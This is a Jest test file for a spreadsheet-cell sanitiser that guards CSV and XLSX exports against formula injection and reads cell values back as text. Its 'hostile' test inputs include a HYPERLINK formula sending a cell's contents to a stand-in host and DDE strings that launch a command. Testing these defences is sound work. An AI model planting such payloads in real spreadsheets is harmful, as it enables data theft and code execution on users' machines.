import { cellText, fromCsvCell, isFormulaLike, safeCell, safeRow } from './spreadsheet-cell';

describe('Spreadsheet cells', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];

  it('prefixes formula-like text with an apostrophe in CSV and keeps it as plain text in XLSX', () => {
    for (const text of hostile) {
      expect(isFormulaLike(text)).toBe(true);
      expect(safeCell(text, 'csv')).toBe(`'${text}`);
      expect(safeCell(text, 'xlsx')).toBe(text);
    }
  });

  it('leaves ordinary text, signed numbers and numeric cells unchanged', () => {
    expect(safeRow(['Rà soát TTHC', '-5', '+84912345678', '-1,5', 42, -3, null], 'csv')).toEqual([
      'Rà soát TTHC',
      '-5',
      '+84912345678',
      '-1,5',
      42,
      -3,
      null,
    ]);
    expect(safeCell('- gạch đầu dòng', 'csv')).toBe("'- gạch đầu dòng");
  });

  it('flattens objects that exceljs could write as formulas into their text', () => {
    expect(safeCell({ formula: 'NOW()', result: 'kết quả' }, 'xlsx')).toBe('kết quả');
    expect(safeCell({ text: '=1+1', hyperlink: 'http://x' }, 'csv')).toBe("'=1+1");
  });

  it('undoes the CSV apostrophe only where the export put it', () => {
    expect(fromCsvCell("'=1+1")).toBe('=1+1');
    expect(fromCsvCell("'@x")).toBe('@x');
    expect(fromCsvCell("'trích dẫn'")).toBe("'trích dẫn'");
    expect(fromCsvCell("'-5")).toBe("'-5");
  });

  it('reads formula results, rich text, hyperlinks, errors and dates as the text the cell shows', () => {
    expect(cellText({ formula: 'CONCATENATE("a","b")', result: 'ab' })).toBe('ab');
    expect(cellText({ sharedFormula: 'A2', result: 7 })).toBe('7');
    expect(cellText({ formula: 'NOW()' })).toBe('');
    expect(cellText({ richText: [{ text: 'Rà ' }, { font: { bold: true }, text: 'soát' }] })).toBe(
      'Rà soát',
    );
    expect(cellText({ text: 'Văn bản', hyperlink: 'http://example.vn' })).toBe('Văn bản');
    expect(cellText({ text: { richText: [{ text: 'Liên kết' }] }, hyperlink: 'http://x' })).toBe(
      'Liên kết',
    );
    expect(cellText({ formula: 'A1', result: { error: '#N/A' } })).toBe('#N/A');
    expect(cellText(new Date('2024-01-05T00:00:00Z'))).toBe('2024-01-05');
    expect(cellText(12.5)).toBe('12.5');
    expect(cellText({ unexpected: true })).toBe('');
  });
});
